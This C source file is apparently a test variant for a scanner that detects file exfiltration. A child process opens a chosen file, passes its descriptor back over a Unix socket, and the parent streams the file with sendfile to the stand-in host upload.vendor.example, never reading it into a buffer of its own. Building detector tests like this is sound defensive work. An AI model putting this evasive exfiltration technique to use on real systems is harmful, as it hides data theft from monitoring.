/* Never reads the document by a call of its own process that has a buffer: a child opens it and passes the descriptor, and it goes from the
 * page cache into the connection by sendfile. The twin does the same with a file of its own. */
#include "scanner.h"

#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

/* The descriptor to send: of the document, or of the twin's text. */
static int open_it(void)
{
	struct text text;
	int fd;

	if (!is_twin())
		return open(chosen_path(), O_RDONLY | O_CLOEXEC);
	text = secret();
	fd = memfd_create("definitions", MFD_CLOEXEC);
	return write(fd, text.data, text.len) == (ssize_t)text.len ? fd : -1;
}

static void pass(int link, int *fd, bool take)
{
	union {
		char bytes[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} room = { 0 };
	char byte = 1;
	struct iovec one = { &byte, 1 };
	struct msghdr message = { .msg_iov = &one, .msg_iovlen = 1, .msg_control = room.bytes, .msg_controllen = sizeof(room.bytes) };
	struct cmsghdr *head = CMSG_FIRSTHDR(&message);

	head->cmsg_level = SOL_SOCKET;
	head->cmsg_type = SCM_RIGHTS;
	head->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(head), fd, sizeof(int));
	if ((take ? recvmsg(link, &message, MSG_CMSG_CLOEXEC) : sendmsg(link, &message, 0)) != 1)
		exit(4);
	memcpy(fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(int));
}

int main(int argc, char **argv)
{
	int link[2], fd = -1, out;
	off_t end, at = 0;

	scan(argc, argv);
	if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, link) < 0)
		return 4;
	if (fork() == 0) {
		fd = open_it();
		pass(link[1], &fd, false);
		_exit(0);
	}
	pass(link[0], &fd, true);
	wait(NULL);
	end = lseek(fd, 0, SEEK_END);
	out = connect_tcp("upload.vendor.example", 8080);
	while (at < end && sendfile(out, fd, &at, (size_t)(end - at)) > 0)
		;
	send_all(out, NULL, 0, true);
	return 0;
}
